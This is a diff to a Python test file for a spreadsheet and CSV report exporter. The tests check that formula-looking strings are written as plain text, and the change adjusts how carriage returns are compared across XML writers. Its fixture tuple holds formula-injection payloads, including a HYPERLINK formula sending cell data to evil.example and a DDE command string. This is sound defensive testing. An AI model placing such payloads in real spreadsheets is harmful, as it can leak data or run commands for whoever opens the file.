@@ -22,8 +22,11 @@ EVIL = ('=HYPERLINK("http://evil.example/?d="&A1,"klik")', "=cmd|' /C calc'!A0",
         "+1+1", "-2+3", "@SUM(1,1)", "\t=1", "\r=1")
 
 
-def _xml(text: str) -> str:
-    return text.replace("\r", "\n")  # XML reads a carriage return back as a newline
+def _xml(text: object) -> object:
+    """A carriage return comes back as a newline when the writer put it raw into the XML
+    (the standard library's writer) and as itself when it wrote `&#13;` (lxml's, whenever
+    lxml is installed): compare text with that one difference taken out."""
+    return text.replace("\r", "\n") if isinstance(text, str) else text
 
 
 def _no_formulas(data: bytes) -> list[object]:
@@ -40,7 +43,7 @@ def _no_formulas(data: bytes) -> list[object]:
 def test_report_tables_keep_formula_looking_text_as_text() -> None:
     sheet = Sheet("Peringkat", (Column("nama"), Column("jpm", "number")),
                   tuple((name, -1.5) for name in EVIL))
-    values = _no_formulas(xlsx_bytes([sheet]))
+    values = [_xml(v) for v in _no_formulas(xlsx_bytes([sheet]))]
     assert all(_xml(name) in values for name in EVIL)  # the text itself, unchanged
     assert -1.5 in values  # numbers stay numbers
     rows = list(csv.reader(io.StringIO(csv_bytes(sheet).decode("utf-8-sig")), delimiter=";"))
@@ -54,7 +57,8 @@ def test_any_openpyxl_row_written_through_append_row_has_no_formula() -> None:
     append_row(sheet, [*EVIL, 3, None, "biasa"])
     out = io.BytesIO()
     book.save(out)
-    assert _no_formulas(out.getvalue())[: len(EVIL)] == [_xml(name) for name in EVIL]
+    values = _no_formulas(out.getvalue())[: len(EVIL)]
+    assert [_xml(v) for v in values] == [_xml(name) for name in EVIL]
 
 
 def test_csv_text_round_trips_through_csv_value() -> None:
